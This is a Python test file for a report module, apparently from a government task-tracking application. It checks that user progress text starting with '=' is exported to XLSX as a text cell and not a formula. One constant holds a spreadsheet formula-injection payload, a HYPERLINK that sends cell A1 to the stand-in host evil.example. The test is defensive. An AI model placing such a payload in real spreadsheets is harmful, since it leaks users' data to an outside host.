"""The quarterly report's XLSX is safe to open: a unit's progress text that starts like a
formula is a text cell (chiso.core.safe_cells); the progress percentages stay numbers."""

import datetime
import io

import pytest
from openpyxl import load_workbook

from chiso.followup.reports import directive_report, directive_report_xlsx
from chiso.followup.services import progress_report_create

pytestmark = pytest.mark.django_db
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def test_a_progress_text_starting_with_equals_is_written_as_text(make_task, officers, notice):
    task = make_task(lead="S-XD", deadline="31/12/2023", text="=1+1")
    progress_report_create(task=task, by=officers["S-XD"], text=LEAK, percent=40, reported_on=datetime.date(2023, 6, 1))
    content = directive_report_xlsx(directive_report(notice, datetime.date(2023, 6, 30)))
    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert LEAK in texts and "=1+1" in texts
    assert 40 in {c.value for c in cells if c.data_type == "n"}
